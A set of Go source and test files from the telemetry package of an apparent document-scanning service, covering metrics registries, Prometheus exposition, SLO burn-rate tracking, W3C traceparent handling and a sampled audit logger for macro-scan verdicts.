		t.Fatalf("tracer did not mint its own span id: %q", tr.SpanID)
	}
	out := tr.Context()
	if out.TraceID != tc.TraceID || out.SpanID != tr.SpanID {
		t.Fatalf("Context() = %+v", out)
	}
	tr.Finish()
	tr2 := tr.Trace()
	if tr2.TraceID != tc.TraceID || tr2.SpanID != tr.SpanID || tr2.ParentSpanID != tc.SpanID {
		t.Fatalf("exported trace identity = %+v", tr2)
	}

	// Invalid contexts are ignored.
	var plain = NewTracer("plain")
	plain.SetTraceContext(TraceContext{TraceID: "zz", SpanID: "zz"})
	if plain.TraceID != "" {
		t.Fatalf("invalid context adopted: %q", plain.TraceID)
	}
	if plain.Context().Traceparent() != "" {
		t.Fatalf("context without identity rendered a traceparent")
	}
}

func TestChromeTraceCarriesTraceID(t *testing.T) {
	tc := NewTraceContext()
	tr := NewTracer("doc.docm")
	tr.SetTraceContext(tc)
	tr.Root().Child("extract").End()
	tr.Finish()
	var sb strings.Builder
	if err := WriteChromeTrace(&sb, []*Trace{tr.Trace()}); err != nil {
		t.Fatalf("chrome trace: %v", err)
	}
	if !strings.Contains(sb.String(), tc.TraceID) {
		t.Fatalf("chrome trace missing trace id %s:\n%s", tc.TraceID, sb.String())
	}
}
