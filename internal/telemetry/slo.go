// Rolling-window SLO tracking: availability (non-5xx fraction) and
// latency (fraction of requests under a threshold) SLIs over short and
// long windows, plus the burn rates alerting wants. Implemented as a
// time-bucketed ring so a reading costs a fixed scan of the ring — no
// per-request allocation, no timestamps stored.

package telemetry

import (
	"sync"
	"time"
)

// SLO window geometry: 10-second buckets, enough of them for the long
// window. The short window reacts to incidents; the long window smooths
// deploy blips.
const (
	sloBucketSize = 10 * time.Second
	// SLOShortWindow is the fast-burn window.
	SLOShortWindow = 5 * time.Minute
	// SLOLongWindow is the slow-burn window.
	SLOLongWindow = time.Hour
)

type sloBucket struct {
	epoch int64 // bucket index since Unix epoch; stale buckets are reset
	total int64
	good  int64 // non-5xx
	fast  int64 // latency under threshold
}

// SLOTracker accumulates request outcomes into a bucketed ring and
// reports rolling availability/latency ratios and burn rates. Safe for
// concurrent use. A nil tracker is a valid disabled instance.
type SLOTracker struct {
	mu               sync.Mutex
	buckets          []sloBucket
	availTarget      float64       // e.g. 0.999
	latencyTarget    float64       // e.g. 0.99 (fraction under threshold)
	latencyThreshold time.Duration // "fast" cutoff
	now              func() time.Time
}

// NewSLOTracker builds a tracker. availTarget and latencyTarget are the
// SLO objectives as fractions in (0,1); latencyThreshold is the fast/slow
// cutoff. Zero values pick production defaults (99.9% availability,
// 99% of requests under 500ms).
func NewSLOTracker(availTarget, latencyTarget float64, latencyThreshold time.Duration) *SLOTracker {
	if availTarget <= 0 || availTarget >= 1 {
		availTarget = 0.999
	}
	if latencyTarget <= 0 || latencyTarget >= 1 {
		latencyTarget = 0.99
	}
	if latencyThreshold <= 0 {
		latencyThreshold = 500 * time.Millisecond
	}
	n := int(SLOLongWindow / sloBucketSize)
	return &SLOTracker{
		buckets:          make([]sloBucket, n),
		availTarget:      availTarget,
		latencyTarget:    latencyTarget,
		latencyThreshold: latencyThreshold,
		now:              time.Now,
	}
}

// LatencyThreshold reports the fast/slow cutoff.
func (s *SLOTracker) LatencyThreshold() time.Duration {
	if s == nil {
		return 0
	}
	return s.latencyThreshold
}

// Observe records one request outcome: its HTTP status class (good =
// not a 5xx) and its latency.
func (s *SLOTracker) Observe(status int, latency time.Duration) {
	if s == nil {
		return
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	epoch := s.now().UnixNano() / int64(sloBucketSize)
	b := &s.buckets[int(epoch)%len(s.buckets)]
	if b.epoch != epoch {
		*b = sloBucket{epoch: epoch}
	}
	b.total++
	if status < 500 {
		b.good++
	}
	if latency <= s.latencyThreshold {
		b.fast++
	}
}

// windowSums totals the buckets inside the window ending now.
func (s *SLOTracker) windowSums(window time.Duration) (total, good, fast int64) {
	epoch := s.now().UnixNano() / int64(sloBucketSize)
	span := int64(window / sloBucketSize)
	if span > int64(len(s.buckets)) {
		span = int64(len(s.buckets))
	}
	for _, b := range s.buckets {
		if b.epoch > epoch-span && b.epoch <= epoch && b.total > 0 {
			total += b.total
			good += b.good
			fast += b.fast
		}
	}
	return total, good, fast
}

// SLOReading is one window's SLIs and burn rates.
type SLOReading struct {
	// Requests is how many requests landed in the window.
	Requests int64 `json:"requests"`
	// Availability is the non-5xx fraction (1 when the window is empty —
	// no traffic is not an outage).
	Availability float64 `json:"availability"`
	// LatencyRatio is the fraction of requests under the threshold.
	LatencyRatio float64 `json:"latency_ratio"`
	// AvailabilityBurn is error rate over error budget: 1.0 burns the
	// budget exactly at the SLO boundary, >1 burns faster.
	AvailabilityBurn float64 `json:"availability_burn"`
	// LatencyBurn is the same for the latency SLI.
	LatencyBurn float64 `json:"latency_burn"`
}

// Read reports the rolling SLIs over the given window.
func (s *SLOTracker) Read(window time.Duration) SLOReading {
	if s == nil {
		return SLOReading{Availability: 1, LatencyRatio: 1}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	total, good, fast := s.windowSums(window)
	r := SLOReading{Requests: total, Availability: 1, LatencyRatio: 1}
	if total == 0 {
		return r
	}
	r.Availability = float64(good) / float64(total)
	r.LatencyRatio = float64(fast) / float64(total)
	r.AvailabilityBurn = (1 - r.Availability) / (1 - s.availTarget)
	r.LatencyBurn = (1 - r.LatencyRatio) / (1 - s.latencyTarget)
	return r
}

// Register wires the tracker's readings into a registry as labeled
// gauges with a "window" label ("5m", "1h").
func (s *SLOTracker) Register(r *Registry) {
	if s == nil || r == nil {
		return
	}
	windows := []struct {
		label string
		d     time.Duration
	}{{"5m", SLOShortWindow}, {"1h", SLOLongWindow}}
	read := func(pick func(SLOReading) float64) func() ([]string, []float64) {
		return func() ([]string, []float64) {
			names := make([]string, len(windows))
			vals := make([]float64, len(windows))
			for i, w := range windows {
				names[i] = w.label
				vals[i] = pick(s.Read(w.d))
			}
			return names, vals
		}
	}
	r.LabeledGaugeFunc("slo_availability_ratio",
		"Rolling non-5xx request fraction per window.", "window",
		read(func(x SLOReading) float64 { return x.Availability }))
	r.LabeledGaugeFunc("slo_latency_ratio",
		"Rolling fraction of requests under the latency threshold per window.", "window",
		read(func(x SLOReading) float64 { return x.LatencyRatio }))
	r.LabeledGaugeFunc("slo_availability_burn_rate",
		"Availability error-budget burn rate per window (1 = burning exactly at SLO).", "window",
		read(func(x SLOReading) float64 { return x.AvailabilityBurn }))
	r.LabeledGaugeFunc("slo_latency_burn_rate",
		"Latency error-budget burn rate per window (1 = burning exactly at SLO).", "window",
		read(func(x SLOReading) float64 { return x.LatencyBurn }))
}
