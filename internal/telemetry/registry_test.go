package telemetry

import (
	"bytes"
	"encoding/json"
	"strings"
	"sync"
	"testing"
	"time"
)

// TestRegistryConcurrency hammers every instrument type from many
// goroutines while renders run, for the race detector.
func TestRegistryConcurrency(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("test_ops_total", "ops")
	g := r.Gauge("test_depth", "depth")
	h := r.Histogram("test_latency_seconds", "latency", nil)
	lc := r.LabeledCounter("test_verdicts_total", "verdicts", "verdict")
	r.GaugeFunc("test_uptime_seconds", "uptime", func() float64 { return 1 })

	const workers, iters = 8, 500
	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				c.Add(1)
				g.Set(int64(i))
				h.Observe(time.Duration(i) * time.Microsecond)
				lc.Add([]string{"clean", "obfuscated"}[i%2], 1)
				if i%100 == 0 {
					var buf bytes.Buffer
					if err := r.WritePrometheus(&buf); err != nil {
						t.Error(err)
					}
					if err := r.WriteJSON(&buf); err != nil {
						t.Error(err)
					}
				}
			}
		}(w)
	}
	wg.Wait()
	if got := c.Value(); got != workers*iters {
		t.Errorf("counter = %d, want %d", got, workers*iters)
	}
	if got := h.Count(); got != workers*iters {
		t.Errorf("histogram count = %d, want %d", got, workers*iters)
	}
	clean := lc.Get("clean")
	obf := lc.Get("obfuscated")
	if clean == nil || obf == nil || clean.Value()+obf.Value() != workers*iters {
		t.Errorf("labeled counter lost increments: %v + %v", clean.Value(), obf.Value())
	}
}

// TestPrometheusGolden pins the exposition output for a registry with
// fixed values: family ordering, TYPE lines, histogram triplet, label
// quoting.
func TestPrometheusGolden(t *testing.T) {
	r := NewRegistry()
	r.Counter("scans_total", "Documents scanned.").Add(7)
	r.Gauge("queue_depth", "Documents waiting.").Set(3)
	r.GaugeFunc("uptime_seconds", "Process uptime.", func() float64 { return 12.5 })
	lc := r.LabeledCounter("verdicts_total", "File verdicts.", "verdict")
	lc.Add("clean", 5)
	lc.Add("obfuscated", 2)
	h := r.Histogram("scan_seconds", "Scan latency.", []float64{0.01, 0.1, 1})
	h.Observe(5 * time.Millisecond)
	h.Observe(50 * time.Millisecond)
	h.Observe(2 * time.Second)

	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	const want = `# HELP queue_depth Documents waiting.
# TYPE queue_depth gauge
queue_depth 3
# HELP scan_seconds Scan latency.
# TYPE scan_seconds histogram
scan_seconds_bucket{le="0.01"} 1
scan_seconds_bucket{le="0.1"} 2
scan_seconds_bucket{le="1"} 2
scan_seconds_bucket{le="+Inf"} 3
scan_seconds_sum 2.055
scan_seconds_count 3
# HELP scans_total Documents scanned.
# TYPE scans_total counter
scans_total 7
# HELP uptime_seconds Process uptime.
# TYPE uptime_seconds gauge
uptime_seconds 12.5
# HELP verdicts_total File verdicts.
# TYPE verdicts_total counter
verdicts_total{verdict="clean"} 5
verdicts_total{verdict="obfuscated"} 2
`
	if got := buf.String(); got != want {
		t.Errorf("exposition mismatch:\n--- got ---\n%s\n--- want ---\n%s", got, want)
	}

	// The golden text must also satisfy our own validator.
	sum, err := ParseExposition(buf.Bytes())
	if err != nil {
		t.Fatalf("golden exposition fails validation: %v", err)
	}
	if sum.Families["scan_seconds"] != "histogram" || sum.Families["scans_total"] != "counter" {
		t.Errorf("validator misread families: %+v", sum.Families)
	}
}

// TestParseExpositionRejects checks the validator actually rejects
// malformed scrapes.
func TestParseExpositionRejects(t *testing.T) {
	cases := map[string]string{
		"bad value":         "metric_a notanumber\n",
		"bad name":          "9metric 1\n",
		"unterminated":      "metric_a{le=\"0.1\" 1\n",
		"bad type":          "# TYPE metric_a flummox\nmetric_a 1\n",
		"empty":             "\n\n",
		"histogram missing": "# TYPE h histogram\nh_bucket{le=\"+Inf\"} 1\nh_count 1\n",
	}
	for name, input := range cases {
		if _, err := ParseExposition([]byte(input)); err == nil {
			t.Errorf("%s: validator accepted %q", name, input)
		}
	}
}

// TestRegistryJSON checks the JSON rendering shape: scalar counters,
// labeled maps, histogram objects with count/avg/buckets.
func TestRegistryJSON(t *testing.T) {
	r := NewRegistry()
	r.Counter("scans", "").Add(4)
	r.LabeledCounter("errors", "", "class").Add("parse", 2)
	h := r.Histogram("request_latency", "", nil)
	h.Observe(3 * time.Millisecond)

	var buf bytes.Buffer
	if err := r.WriteJSON(&buf); err != nil {
		t.Fatal(err)
	}
	var tree map[string]any
	if err := json.Unmarshal(buf.Bytes(), &tree); err != nil {
		t.Fatalf("registry JSON invalid: %v", err)
	}
	if tree["scans"].(float64) != 4 {
		t.Errorf("scans = %v", tree["scans"])
	}
	if tree["errors"].(map[string]any)["parse"].(float64) != 2 {
		t.Errorf("errors.parse = %v", tree["errors"])
	}
	hist := tree["request_latency"].(map[string]any)
	if hist["count"].(float64) != 1 {
		t.Errorf("histogram count = %v", hist["count"])
	}
	if _, ok := hist["buckets"].(map[string]any); !ok {
		t.Error("histogram JSON has no buckets object")
	}
}

// TestRegisterGoRuntime checks the runtime gauges expose plausible values
// through the exposition path.
func TestRegisterGoRuntime(t *testing.T) {
	r := NewRegistry()
	r.RegisterGoRuntime()
	var buf bytes.Buffer
	if err := r.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{"go_goroutines", "go_memstats_heap_alloc_bytes", "go_gc_pause_seconds_total"} {
		if !strings.Contains(out, want) {
			t.Errorf("runtime exposition missing %s", want)
		}
	}
	if _, err := ParseExposition(buf.Bytes()); err != nil {
		t.Fatalf("runtime exposition invalid: %v", err)
	}
}

// TestRegistryReregister checks registering a name twice returns the same
// instrument instead of zeroing it.
func TestRegistryReregister(t *testing.T) {
	r := NewRegistry()
	a := r.Counter("x_total", "")
	a.Add(3)
	b := r.Counter("x_total", "")
	if a != b {
		t.Fatal("re-registration returned a different counter")
	}
	if b.Value() != 3 {
		t.Fatalf("re-registration lost the count: %d", b.Value())
	}
}

// TestNilInstruments drives the nil fast path of every instrument.
func TestNilInstruments(t *testing.T) {
	var c *Counter
	var g *Gauge
	var h *Histogram
	var lc *LabeledCounter
	allocs := testing.AllocsPerRun(100, func() {
		c.Add(1)
		g.Set(2)
		g.Add(1)
		h.Observe(time.Millisecond)
		lc.Add("k", 1)
	})
	if allocs != 0 {
		t.Errorf("nil instruments allocate %v times per op", allocs)
	}
	if c.Value() != 0 || g.Value() != 0 || h.Count() != 0 || lc.Get("k") != nil {
		t.Error("nil instruments returned non-zero values")
	}
}
