package telemetry

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"
)

func hashOf(i int) string {
	sum := sha256.Sum256([]byte(fmt.Sprintf("doc-%d", i)))
	return hex.EncodeToString(sum[:])
}

// TestAuditSamplingDeterministic checks hash-keyed sampling: the same
// document always makes the same decision, the kept fraction tracks the
// rate, and a rate of 1 keeps everything.
func TestAuditSamplingDeterministic(t *testing.T) {
	const n = 2000
	l := NewAuditLogger(&bytes.Buffer{}, AuditConfig{SampleRate: 0.25})
	kept := 0
	for i := 0; i < n; i++ {
		h := hashOf(i)
		first := l.ShouldSample(h)
		if second := l.ShouldSample(h); second != first {
			t.Fatalf("sampling decision for %s not deterministic", h)
		}
		if first {
			kept++
		}
	}
	frac := float64(kept) / n
	if frac < 0.20 || frac > 0.30 {
		t.Errorf("sample rate 0.25 kept %.3f of documents", frac)
	}

	all := NewAuditLogger(&bytes.Buffer{}, AuditConfig{})
	for i := 0; i < 50; i++ {
		if !all.ShouldSample(hashOf(i)) {
			t.Fatal("rate 1.0 dropped a document")
		}
	}
}

// TestAuditSamplingDrops checks dropped-by-sampling events are counted
// and never written.
func TestAuditSamplingDrops(t *testing.T) {
	var buf bytes.Buffer
	l := NewAuditLogger(&buf, AuditConfig{SampleRate: 0.5})
	const n = 400
	for i := 0; i < n; i++ {
		l.Log(&AuditEvent{Doc: "d", SHA256: hashOf(i), FeatureSet: "V"})
	}
	st := l.Stats()
	if st.Written+st.DroppedSampled != n {
		t.Fatalf("written %d + dropped %d != %d", st.Written, st.DroppedSampled, n)
	}
	if st.DroppedSampled == 0 || st.Written == 0 {
		t.Fatalf("rate 0.5 should both keep and drop: %+v", st)
	}
	lines := strings.Count(buf.String(), "\n")
	if int64(lines) != st.Written {
		t.Errorf("wrote %d lines but counted %d", lines, st.Written)
	}
}

// TestAuditRateCap checks the per-second cap bounds a burst and counts
// the overflow.
func TestAuditRateCap(t *testing.T) {
	var buf bytes.Buffer
	l := NewAuditLogger(&buf, AuditConfig{MaxPerSec: 10})
	base := time.Now().UnixNano()
	for i := 0; i < 50; i++ {
		l.Log(&AuditEvent{Doc: "d", SHA256: hashOf(i), TimeUnixNS: base})
	}
	st := l.Stats()
	if st.Written != 10 || st.DroppedRate != 40 {
		t.Fatalf("rate cap: written=%d droppedRate=%d, want 10/40", st.Written, st.DroppedRate)
	}
	// A new wall-clock second resets the window.
	for i := 50; i < 55; i++ {
		l.Log(&AuditEvent{Doc: "d", SHA256: hashOf(i), TimeUnixNS: base + int64(time.Second)})
	}
	if st := l.Stats(); st.Written != 15 {
		t.Fatalf("window did not reset: written=%d, want 15", st.Written)
	}
}

// TestAuditSizeCap checks the lifetime byte cap stops writes.
func TestAuditSizeCap(t *testing.T) {
	var buf bytes.Buffer
	l := NewAuditLogger(&buf, AuditConfig{MaxBytes: 300})
	for i := 0; i < 20; i++ {
		l.Log(&AuditEvent{Doc: "document-with-a-name", SHA256: hashOf(i)})
	}
	st := l.Stats()
	if st.DroppedSize == 0 {
		t.Fatal("size cap never triggered")
	}
	if int64(buf.Len()) > 300 {
		t.Fatalf("wrote %d bytes past the 300-byte cap", buf.Len())
	}
	if st.Written == 0 {
		t.Fatal("size cap dropped everything, including events under the cap")
	}
}

// TestAuditEventShape checks the JSONL record round-trips with feature
// vectors and flags intact.
func TestAuditEventShape(t *testing.T) {
	var buf bytes.Buffer
	l := NewAuditLogger(&buf, AuditConfig{})
	ok := l.Log(&AuditEvent{
		Doc:        "invoice.docm",
		SHA256:     hashOf(1),
		Format:     "ooxml",
		FeatureSet: "V",
		Obfuscated: true,
		Macros: []AuditMacro{{
			Module:      "Module1",
			Obfuscated:  true,
			Score:       0.93,
			Features:    []float64{1, 2, 3},
			AutoExec:    true,
			IOCs:        2,
			SourceBytes: 512,
		}},
		Degraded: true,
		Attempts: 3,
	})
	if !ok {
		t.Fatal("event was dropped")
	}
	var ev AuditEvent
	if err := json.Unmarshal(buf.Bytes(), &ev); err != nil {
		t.Fatalf("audit line invalid JSON: %v", err)
	}
	if ev.TimeUnixNS == 0 {
		t.Error("timestamp not stamped")
	}
	if len(ev.Macros) != 1 || len(ev.Macros[0].Features) != 3 || !ev.Macros[0].AutoExec {
		t.Errorf("macro payload mangled: %+v", ev.Macros)
	}
	if ev.Attempts != 3 || !ev.Degraded {
		t.Errorf("flags mangled: %+v", ev)
	}
}

// TestAuditConcurrent writes from many goroutines under -race; every
// written line must be complete JSON.
func TestAuditConcurrent(t *testing.T) {
	var buf bytes.Buffer
	l := NewAuditLogger(&buf, AuditConfig{SampleRate: 0.8, MaxPerSec: 100000})
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				l.Log(&AuditEvent{Doc: "d", SHA256: hashOf(w*1000 + i)})
			}
		}(w)
	}
	wg.Wait()
	for _, line := range strings.Split(strings.TrimSpace(buf.String()), "\n") {
		var ev AuditEvent
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("interleaved write corrupted a line: %v", err)
		}
	}
}

// TestNilAuditLogger checks the disabled fast path.
func TestNilAuditLogger(t *testing.T) {
	var l *AuditLogger
	if l.Log(&AuditEvent{SHA256: hashOf(1)}) {
		t.Fatal("nil logger claimed to write")
	}
	if l.ShouldSample(hashOf(1)) {
		t.Fatal("nil logger claimed to sample")
	}
	if st := l.Stats(); st != (AuditStats{}) {
		t.Fatalf("nil logger stats = %+v", st)
	}
}
