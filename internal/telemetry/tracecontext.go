// W3C Trace Context (traceparent) support: parse and render the
// `traceparent` header, and mint the random trace/span IDs that stitch a
// request's spans into one tree across process and crash boundaries —
// the HTTP handler, the durable intake queue and the worker that finally
// scans the document all share one trace ID.
//
// Only the level-00 header format is implemented (that is all the spec
// has shipped); tracestate is passed through untouched by callers that
// care, and ignored here.

package telemetry

import (
	"crypto/rand"
	"encoding/hex"
	"fmt"
	"strings"
)

// TraceContext is one parsed W3C traceparent: the trace ID shared by
// every span in the request, the span ID of the current (parent) span,
// and the trace flags (bit 0 = sampled).
type TraceContext struct {
	// TraceID is 16 bytes, lower-case hex (32 chars), not all zero.
	TraceID string
	// SpanID is 8 bytes, lower-case hex (16 chars), not all zero.
	SpanID string
	// Flags is the 2-char hex flags field ("01" = sampled).
	Flags string
}

// IsValid reports whether the context carries well-formed, non-zero IDs.
func (tc TraceContext) IsValid() bool {
	return validHexID(tc.TraceID, 32) && validHexID(tc.SpanID, 16)
}

// Traceparent renders the context as a version-00 traceparent header
// value. Invalid contexts render as "".
func (tc TraceContext) Traceparent() string {
	if !tc.IsValid() {
		return ""
	}
	flags := tc.Flags
	if len(flags) != 2 {
		flags = "01"
	}
	return "00-" + tc.TraceID + "-" + tc.SpanID + "-" + flags
}

// Child returns a copy of tc with a freshly minted span ID — the context
// to hand to the next hop so its spans parent under this one.
func (tc TraceContext) Child() TraceContext {
	tc.SpanID = NewSpanID()
	return tc
}

// ParseTraceparent parses a traceparent header value. It accepts any
// known version prefix per the spec's forward-compatibility rule (the
// first four fields must still parse) but rejects the reserved version
// "ff", malformed lengths and all-zero IDs.
func ParseTraceparent(header string) (TraceContext, error) {
	h := strings.TrimSpace(header)
	parts := strings.Split(h, "-")
	if len(parts) < 4 {
		return TraceContext{}, fmt.Errorf("telemetry: traceparent: want 4 fields, got %d", len(parts))
	}
	ver, traceID, spanID, flags := parts[0], parts[1], parts[2], parts[3]
	if len(ver) != 2 || !isHex(ver) || ver == "ff" {
		return TraceContext{}, fmt.Errorf("telemetry: traceparent: bad version %q", ver)
	}
	if ver == "00" && len(parts) != 4 {
		return TraceContext{}, fmt.Errorf("telemetry: traceparent: version 00 wants exactly 4 fields")
	}
	if !validHexID(traceID, 32) {
		return TraceContext{}, fmt.Errorf("telemetry: traceparent: bad trace-id %q", traceID)
	}
	if !validHexID(spanID, 16) {
		return TraceContext{}, fmt.Errorf("telemetry: traceparent: bad parent-id %q", spanID)
	}
	if len(flags) != 2 || !isHex(flags) {
		return TraceContext{}, fmt.Errorf("telemetry: traceparent: bad flags %q", flags)
	}
	return TraceContext{TraceID: traceID, SpanID: spanID, Flags: flags}, nil
}

// NewTraceContext mints a fresh sampled context with random IDs — the
// root of a new trace when the caller arrived without a traceparent.
func NewTraceContext() TraceContext {
	return TraceContext{TraceID: NewTraceID(), SpanID: NewSpanID(), Flags: "01"}
}

// NewTraceID returns 16 random bytes as lower-case hex.
func NewTraceID() string { return randomHex(16) }

// NewSpanID returns 8 random bytes as lower-case hex.
func NewSpanID() string { return randomHex(8) }

func randomHex(n int) string {
	b := make([]byte, n)
	if _, err := rand.Read(b); err != nil {
		// crypto/rand never fails on supported platforms; if it somehow
		// does, a zero ID would be rejected downstream, so synthesize a
		// non-zero fallback instead.
		for i := range b {
			b[i] = byte(i + 1)
		}
	}
	// Guard against the astronomically unlikely all-zero draw, which the
	// spec declares invalid.
	allZero := true
	for _, c := range b {
		if c != 0 {
			allZero = false
			break
		}
	}
	if allZero {
		b[0] = 1
	}
	return hex.EncodeToString(b)
}

func validHexID(s string, n int) bool {
	if len(s) != n || !isHex(s) {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] != '0' {
			return true
		}
	}
	return false
}

func isHex(s string) bool {
	for i := 0; i < len(s); i++ {
		c := s[i]
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return len(s) > 0
}
