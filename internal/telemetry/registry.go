// The metrics registry: counters, gauges and fixed-bucket histograms safe
// for concurrent writes from scan workers and request handlers. One
// Registry is one namespace; nothing registers globally, so tests can run
// many registries (and many servers) in a single process.
//
// Values render two ways: WriteJSON (the expvar-style document the scan
// daemon has always served) and WritePrometheus (text exposition format,
// scrapeable by a stock Prometheus).

package telemetry

import (
	"encoding/json"
	"fmt"
	"io"
	"math"
	"runtime"
	"sort"
	"sync"
	"sync/atomic"
	"time"
)

// Counter is a monotonically increasing int64, safe for concurrent use.
// A nil Counter is a valid disabled instance.
type Counter struct {
	v atomic.Int64
}

// Add increments the counter by n.
func (c *Counter) Add(n int64) {
	if c == nil {
		return
	}
	c.v.Add(n)
}

// Value reads the counter.
func (c *Counter) Value() int64 {
	if c == nil {
		return 0
	}
	return c.v.Load()
}

// Gauge is an instantaneous int64 value, safe for concurrent use. A nil
// Gauge is a valid disabled instance.
type Gauge struct {
	v atomic.Int64
}

// Set stores the gauge value.
func (g *Gauge) Set(n int64) {
	if g == nil {
		return
	}
	g.v.Store(n)
}

// Add moves the gauge by n (negative to decrement).
func (g *Gauge) Add(n int64) {
	if g == nil {
		return
	}
	g.v.Add(n)
}

// Value reads the gauge.
func (g *Gauge) Value() int64 {
	if g == nil {
		return 0
	}
	return g.v.Load()
}

// DefaultLatencyBuckets are histogram upper bounds in seconds (cumulative
// "le" semantics), spanning sub-millisecond classifier inference up to
// multi-second worst-case documents. The implicit last bucket is +Inf.
var DefaultLatencyBuckets = []float64{
	0.0001, 0.00025, 0.0005, 0.001, 0.0025, 0.005, 0.01, 0.025, 0.05,
	0.1, 0.25, 0.5, 1, 2.5, 5,
}

// Histogram is a fixed-bucket duration histogram safe for concurrent use.
// A nil Histogram is a valid disabled instance.
type Histogram struct {
	bounds  []float64 // upper bounds in seconds, ascending
	buckets []atomic.Int64
	count   atomic.Int64
	sumNS   atomic.Int64
}

// NewHistogram builds a histogram over the given second-denominated upper
// bounds (nil means DefaultLatencyBuckets). Registry.Histogram is the
// usual constructor; this one exists for standalone use in tests.
func NewHistogram(bounds []float64) *Histogram {
	if bounds == nil {
		bounds = DefaultLatencyBuckets
	}
	return &Histogram{bounds: bounds, buckets: make([]atomic.Int64, len(bounds)+1)}
}

// Observe records one duration.
func (h *Histogram) Observe(d time.Duration) {
	if h == nil {
		return
	}
	h.count.Add(1)
	h.sumNS.Add(d.Nanoseconds())
	sec := d.Seconds()
	for i, bound := range h.bounds {
		if sec <= bound {
			h.buckets[i].Add(1)
			return
		}
	}
	h.buckets[len(h.bounds)].Add(1)
}

// ObserveValue records one unitless observation against the histogram's
// bounds — for instruments that count things (batch sizes, queue lengths)
// rather than time them. Such histograms should use explicit bounds in the
// counted unit and a name that does not imply seconds.
func (h *Histogram) ObserveValue(v float64) {
	if h == nil {
		return
	}
	h.count.Add(1)
	h.sumNS.Add(int64(v * 1e9))
	for i, bound := range h.bounds {
		if v <= bound {
			h.buckets[i].Add(1)
			return
		}
	}
	h.buckets[len(h.bounds)].Add(1)
}

// Count reports how many observations have been recorded.
func (h *Histogram) Count() int64 {
	if h == nil {
		return 0
	}
	return h.count.Load()
}

// SumSeconds reports the sum of all observed durations in seconds.
func (h *Histogram) SumSeconds() float64 {
	if h == nil {
		return 0
	}
	return float64(h.sumNS.Load()) / 1e9
}

// snapshot reads a consistent-enough view for rendering: cumulative bucket
// counts per bound plus the +Inf total.
func (h *Histogram) snapshot() (cum []int64, count int64, sumSec float64) {
	cum = make([]int64, len(h.bounds)+1)
	var running int64
	for i := range h.buckets {
		running += h.buckets[i].Load()
		cum[i] = running
	}
	return cum, h.count.Load(), float64(h.sumNS.Load()) / 1e9
}

// jsonValue renders the histogram for the JSON document: count, sum and
// average in milliseconds plus cumulative per-bucket counts.
func (h *Histogram) jsonValue() map[string]any {
	cum, count, sumSec := h.snapshot()
	avgMS := 0.0
	if count > 0 {
		avgMS = sumSec * 1e3 / float64(count)
	}
	buckets := make(map[string]int64, len(cum))
	for i, bound := range h.bounds {
		buckets[fmt.Sprintf("le_%gms", bound*1e3)] = cum[i]
	}
	buckets["le_inf"] = cum[len(h.bounds)]
	return map[string]any{
		"count":   count,
		"sum_ms":  round3(sumSec * 1e3),
		"avg_ms":  round3(avgMS),
		"buckets": buckets,
	}
}

func round3(f float64) float64 { return math.Round(f*1e3) / 1e3 }

// LabeledCounter is a family of counters keyed by one label value
// ("endpoint", "verdict", "error class"). A nil LabeledCounter is a valid
// disabled instance.
type LabeledCounter struct {
	mu    sync.Mutex
	items map[string]*Counter
}

// With returns the counter for the label value, creating it on first use.
func (lc *LabeledCounter) With(value string) *Counter {
	if lc == nil {
		return nil
	}
	lc.mu.Lock()
	defer lc.mu.Unlock()
	c, ok := lc.items[value]
	if !ok {
		c = &Counter{}
		lc.items[value] = c
	}
	return c
}

// Add increments the counter for the label value.
func (lc *LabeledCounter) Add(value string, n int64) { lc.With(value).Add(n) }

// Get returns the counter for the label value, or nil if it was never
// touched (mirroring expvar.Map.Get semantics).
func (lc *LabeledCounter) Get(value string) *Counter {
	if lc == nil {
		return nil
	}
	lc.mu.Lock()
	defer lc.mu.Unlock()
	return lc.items[value]
}

// values snapshots the family sorted by label value.
func (lc *LabeledCounter) values() ([]string, []int64) {
	lc.mu.Lock()
	keys := make([]string, 0, len(lc.items))
	for k := range lc.items {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	vals := make([]int64, len(keys))
	for i, k := range keys {
		vals[i] = lc.items[k].Value()
	}
	lc.mu.Unlock()
	return keys, vals
}

// metricKind tags a registered family for exposition.
type metricKind int

const (
	kindCounter metricKind = iota + 1
	kindGauge
	kindGaugeFunc
	kindCounterFunc
	kindHistogram
	kindLabeledCounter
	kindLabeledGaugeFunc
	kindInfo
)

// family is one registered metric family.
type family struct {
	name     string
	help     string
	kind     metricKind
	labelKey string

	counter   *Counter
	gauge     *Gauge
	fn        func() float64
	intFn     func() int64
	hist      *Histogram
	labeled   *LabeledCounter
	labeledFn func() ([]string, []float64)
	infoFn    func() map[string]string
}

// Registry is one namespace of metric families. Register families at
// setup time (Counter, Gauge, GaugeFunc, Histogram, LabeledCounter), then
// write to them from any goroutine. Registering the same name twice
// returns the existing family's instrument.
type Registry struct {
	mu       sync.Mutex
	families map[string]*family
	names    []string // registration order
}

// NewRegistry builds an empty registry.
func NewRegistry() *Registry {
	return &Registry{families: make(map[string]*family)}
}

// register installs or fetches a family by name.
func (r *Registry) register(name string, f func() *family) *family {
	r.mu.Lock()
	defer r.mu.Unlock()
	if got, ok := r.families[name]; ok {
		return got
	}
	fam := f()
	r.families[name] = fam
	r.names = append(r.names, name)
	return fam
}

// Counter registers (or fetches) a counter family.
func (r *Registry) Counter(name, help string) *Counter {
	return r.register(name, func() *family {
		return &family{name: name, help: help, kind: kindCounter, counter: &Counter{}}
	}).counter
}

// Gauge registers (or fetches) a gauge family.
func (r *Registry) Gauge(name, help string) *Gauge {
	return r.register(name, func() *family {
		return &family{name: name, help: help, kind: kindGauge, gauge: &Gauge{}}
	}).gauge
}

